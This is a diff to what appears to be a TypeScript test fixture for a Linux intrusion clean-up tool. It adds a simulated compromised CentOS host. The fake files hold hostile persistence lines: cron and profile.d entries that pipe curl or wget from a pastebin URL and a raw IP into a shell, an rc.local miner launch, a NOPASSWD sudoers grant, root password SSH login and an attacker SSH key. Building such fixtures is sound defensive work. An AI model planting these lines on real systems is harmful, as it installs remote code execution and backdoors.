@@ -1,6 +1,6 @@
 import { randomBytes } from 'node:crypto';
 import fs from 'node:fs';
-import { adminSystemd, debianCron, debianSystemd, debianSysv, xorDdos } from './persistence';
+import { adminSystemd, debianCron, debianSystemd, debianSysv, installPackage, xorDdos } from './persistence';
 import type { FakeRoot } from './fake-root';
 
 // Trees for clean + undo: one with every kind of foothold the write-ups remove by hand, and
@@ -116,5 +116,46 @@ export function benignLookalikes(root: FakeRoot): FakeRoot {
     .write('/etc/cron.d/backup', 'MAILTO=root\n0 3 * * * root /usr/local/sbin/backup --quiet\n', { mtime: DAYS_AGO(300) })
     .write('/usr/local/sbin/backup', '#!/bin/sh\ntar czf /srv/backup.tgz /etc\n', { mode: 0o755, mtime: DAYS_AGO(300) })
     .write('/root/.ssh/authorized_keys', `${ADMIN_KEY}\n`, { mtime: DAYS_AGO(300), mode: 0o600 });
+  return root;
+}
+
+/**
+ * A second host, CentOS-flavoured: a user crontab under /var/spool/cron, an rc.local line, a
+ * profile.d downloader, a NOPASSWD sudoers grant and root password login switched on in sshd,
+ * an authorized_keys2 file, and a payload dropped in /dev/shm's stand-in under /var/tmp.
+ */
+export function plantSecondHost(root: FakeRoot): FakeRoot {
+  baseTree(root);
+  accounts(root, true);
+  installPackage(root, 'ntpdate', { '/usr/sbin/ntpdate': 'ELF' });
+  const t = { mtime: DAYS_AGO(2) };
+  root
+    .write(
+      '/var/spool/cron/root',
+      '*/15 * * * * (curl -fsSL https://pastebin.com/raw/xyz || wget -q -O- https://pastebin.com/raw/xyz) | sh\n',
+      t,
+    )
+    // Timestomped by the intruder: rc.local looks a year old, so only the miner line stands out.
+    .write(
+      '/etc/rc.local',
+      '#!/bin/sh -e\n# keep the NTP sync\n/usr/sbin/ntpdate -u pool.ntp.org || true\nnohup /var/tmp/.ICE-unix/kdevtmpfsi >/dev/null 2>&1 &\nexit 0\n',
+      {
+        mtime: DAYS_AGO(365),
+        mode: 0o755,
+      },
+    )
+    .write('/var/tmp/.ICE-unix/kdevtmpfsi', elf(), { ...t, mode: 0o755 })
+    .write('/etc/profile.d/sysupdate.sh', 'export HISTSIZE=1000\ncurl -s http://185.222.58.10/p.sh | bash >/dev/null 2>&1\n', t)
+    .write('/etc/sudoers', 'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n', {
+      mtime: DAYS_AGO(300),
+      mode: 0o440,
+    })
+    .write('/etc/sudoers.d/maill', 'maill ALL=(ALL) NOPASSWD: ALL\n', { ...t, mode: 0o440 })
+    .write(
+      '/etc/ssh/sshd_config',
+      'Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nPasswordAuthentication yes\nUsePAM yes\n',
+      t,
+    )
+    .write('/root/.ssh/authorized_keys2', `${ATTACKER_KEY}\n`, { ...t, mode: 0o600 });
   return root;
 }
